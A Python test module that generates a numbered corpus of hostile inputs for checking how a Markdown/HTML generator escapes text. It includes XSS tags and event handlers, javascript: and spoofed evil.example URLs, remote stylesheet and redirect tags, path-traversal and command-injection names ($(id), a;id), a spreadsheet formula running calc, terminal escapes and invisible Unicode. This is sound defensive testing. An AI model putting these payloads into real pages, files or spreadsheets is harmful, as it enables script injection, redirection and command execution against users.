"""Hostile texts, written as rules: families of specials, frames and marks, not a list of blobs.

`ALL` is in a fixed order, so that a number names the same text in every run.
"""

import unicodedata

SCRIPT = "document.title='PWN'"

# What ends a context, and what then runs.
BREAKERS = ("", "\"", "'", "`", "\">", "'>", "-->", "]]>", "</title>", "</code>", "</td></tr></table>",
            "</main></body>", "\\\"", "&quot;>", "&#34;>")
RUNNERS = (
    f"<script>{SCRIPT}</script>", f"<img src=x onerror={SCRIPT}>", f"<svg/onload={SCRIPT}>",
    f"<iframe srcdoc=\"<script>{SCRIPT}</script>\">", f"<a href=javascript:{SCRIPT}>x</a>",
    f"<body onload={SCRIPT}>", f"<details open ontoggle={SCRIPT}>", f"<style>@import'//evil.example/'</style>",
    f"<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x>", f"<math><mtext><script>{SCRIPT}</script>",
)
HANDLERS = [f"{quote}{gap}{name}={quote}{SCRIPT}{end}"
            for quote in ("\"", "'", "`", "") for gap in (" ", "\t", "/", "\f")
            for name, end in (("onmouseover", ""), ("autofocus onfocus", " x=" + quote))]

# One special and what stands behind it make one `Character` of Swift.
SPECIALS = "<>&\"'`|*_[]()\\#!~{}$:/"
MARKS = {"stroke": "\u0338", "acute": "\u0301", "emoji": "\ufe0f", "joiner": "\u200d",
         "circle": "\u20dd", "two": "\u0301\u0323"}
COMBINING = (
    [f"a{special}{mark}b" for special in SPECIALS for mark in MARKS.values()]
    + [f"<{mark}script>{SCRIPT}</{mark}script>" for mark in MARKS.values()]
    + [f"&{mark}lt;script&{mark}gt;" for mark in MARKS.values()]
    + [f"[{mark}x](https://evil.example)" for mark in MARKS.values()]
    + [f"`{mark} then **bold** `" for mark in MARKS.values()]
    + [f"\r\n{mark}# h" for mark in MARKS.values()]
)

ENTITIES = [f"{amp}{name}" for amp in ("&", "&amp;", "&amp;amp;", "&#38;")
            for name in ("lt;script&gt;", "#60;b&#62;", "#x3c;b>", "NewLine;", "colon;", "copy", "#0;",
                         "#32;x", "#106;avascript:", "Tab;", "quot;")]

LINE_STARTS = ("# h", "## h {#id}", "- x", "+ x", "* x", "1. x", "12) x", "> q", "***", "---", "===",
               "    code", "\tcode", "```", "~~~ sh", "| a | b |\n|---|---|\n| c | d |", "<div>",
               "[x]: https://evil.example", "[^1]: note", ": definition", "<!-- x", "<?x", "{{title}}",
               "{% raw %}", "+++", "---\ntitle: x\n---")
BREAKS = ("\n", "\r", "\r\n", "\n\n", "\r\n\r\n", "\u2028", "\u2029", "\u0085", "\v", "\f")
MARKDOWN = (
    list(LINE_STARTS)
    + [f"a{end}{start}" for start in LINE_STARTS[:16] for end in BREAKS]
    + ["**b** _e_ __s__ ~~g~~", "*a*b*", "_a_b_", "_x", "x_", "a\\", "a  ", "  a", " ", "#", "a #",
       "[x](https://evil.example)", "![x](https://evil.example/b.png)", "[x][y]", "[ ] t", "[^1]", "!",
       "![[]()![[]()", "<https://evil.example/>", "<a@b.example>", "$x$ $$y$$", ":-: |", "a|b||c", "a\\|b",
       "|", "\\|", "`", "``", "` `", " `x` ", "`a``b`", "x`", "`x", "``` `` ```", "line\\\nbreak", "{{{x}}}",
       "\U000f0000\U000f0001", "https://evil.example/a_b_c", "www.evil.example", "a@b.example", ":smile:",
       "@team", "GH-1", "#1"]
)

SCHEMES = ("javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", " javascript",
           "&#106;avascript", "javascript&colon;", "vbscript", "data", "file", "blob", "view-source", "intent",
           "ms-msdt", "about", "x", "")
URLS = (
    [f"{scheme}:{rest}" for scheme in SCHEMES
     for rest in ("alert(1)", "//evil.example/x", "text/html,<script>1</script>")]
    + [f"https://{host}/x" for host in (
        "github.com@evil.example", "github.com\\@evil.example", "a:b@evil.example", "evil.example:99999",
        "evil.example:x", "[::1", "[::g]", "d\u043ecker.io", "xn--80ak6aa92e.com", "EVIL.example", "-e.example",
        "e..example", "e%2eexample", "127.1", "0x7f.1", "e\u202eexample", "\uff45vil.example", "e\u3002example")]
    + ["//evil.example/x", "\\\\evil\\share", "/\\evil.example", "https:/\\evil.example", "https:evil.example",
       "git@github.com:a/b.git", "ssh://u@h/x", "https://h/#javascript:alert(1)", "https://h/ x", "http://",
       "https://h/%", "https://h/%zz", "https://h/?a=1&b=2", "mailto:a@b.example", "../../x", "..%2f..%2fx",
       "https://h/\"onmouseover=1", "https://h/')x(", "https://h/<b>", "tel:1", "#x", "?x", "/x"]
)

HIDDEN = (
    [f"a{chr(code)}b" for code in [*range(0x20), *range(0x7F, 0xA1), 0xAD]]
    + [f"docker{chr(code)}oi" for code in (
        0x61C, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, *range(0x202A, 0x202F),
        *range(0x2060, 0x2065), *range(0x2066, 0x2070), 0xFEFF, 0xFFF9, 0xFFFE, 0xFFFF, 0xE000, 0x1D173, 0xE0041,
        0xE0100, 0x34F, 0x115F, 0x3164, 0xFFA0, 0x10FFFF)]
    + ["\x1b[31mred", "\x1b]8;;http://evil\x07click\x1b]8;;\x07", "\x9b31m", "\x1bPq\x1b\\", "\r\x1b[K",
       "\u05d0\u05d1 abc", "e\u0301", "\u00e9", "\ufb01", "\uff1cscript\uff1e", "\u02b9onx", "\u3000x",
       "\U0001f9d1\u200d\U0001f4bb", "d\u043ecker.io/x", "\u212a", "\u037e", "\u1fef"]
)

NAMES = ["../../x", "/etc/passwd", "..", ".", "a/../../b", "..%2f..%2fx", "..\\..\\x", "C:\\x",
         "\\\\?\\C:\\x", "~root/x", "CON", "nul", "COM1", "COM\u00b9", "aux.html", "LPT9.txt", "CONIN$", "x.", "x ",
         "_x", ".x", "-x", "-rf", "--output=x", "index", "index.html", "404", "style.css", "assets", "manifest",
         "sitemap", "pindrift-manifest.json", ".git", ".nojekyll", "a-b", "a_b", "a.b", "a b", "a/b", "a:b", "a+b",
         "A-B", "x" * 300, "\u00e9" * 128, "%00", "$(id)", "`id`", "a;id", "a\0b", "a'b", "a&b"]

FORMULAS = [f"{lead}{sign}cmd|' /C calc'!A0" for lead in ("", " ", "\t", "\xa0") for sign in "=+-@"]

LONG = ["<b>" * 3000, "`" * 200, "[" * 500, "*a " * 300, "\u0301" * 300, "> " * 300, "![[]()" * 1000,
        "a\u0301\u0323" * 1000, "x" * 5000, "&" * 2000, "\\" * 1000, "|" * 1000, "a " * 2000, "\u202e" * 500]

FAMILIES = {
    "markup": [a + b for a in BREAKERS for b in RUNNERS[:3]] + list(RUNNERS[3:]) + HANDLERS
    + list("<>&\"'") + ["<b", "b>", "<!--", "-->", "<![CDATA[x]]>", "<?php ?>", "</"],
    "combining": COMBINING, "entities": ENTITIES, "markdown": MARKDOWN, "urls": URLS, "hidden": HIDDEN,
    "names": NAMES, "formulas": FORMULAS, "long": LONG,
}
ALL = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))

# A benign twin has the length and the letters of the hostile text, and nothing that means anything to
# HTML or Markdown. The map keeps what counts as a blank, a mark or a hidden scalar in its class.
_TAME = str.maketrans({"<": "{", ">": "}", "\"": "(", "'": ")", "`": "^", "&": "+"})


def tame(text):
    """The same text with HTML's five specials and the backtick made harmless."""
    return text.translate(_TAME)


def distinct(texts):
    """Those whose twins differ from one another."""
    return list({tame(text): text for text in texts}.values())


def visible(text):
    """The text as a page shows it: what cannot be seen is spelt out."""
    return "".join(f"\\u{{{ord(c):X}}}" if is_hidden(c) else c for c in text)


def is_hidden(scalar):
    if " " <= scalar <= "~":
        return False
    return unicodedata.category(scalar) in ("Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn") or \
        any(first <= ord(scalar) <= last for first, last in _IGNORABLE)


# Default_Ignorable_Code_Point beyond the general categories above.
_IGNORABLE = ((0x34F, 0x34F), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F), (0x3164, 0x3164),
              (0xFE00, 0xFE0F), (0xFFA0, 0xFFA0), (0xE0000, 0xE0FFF))
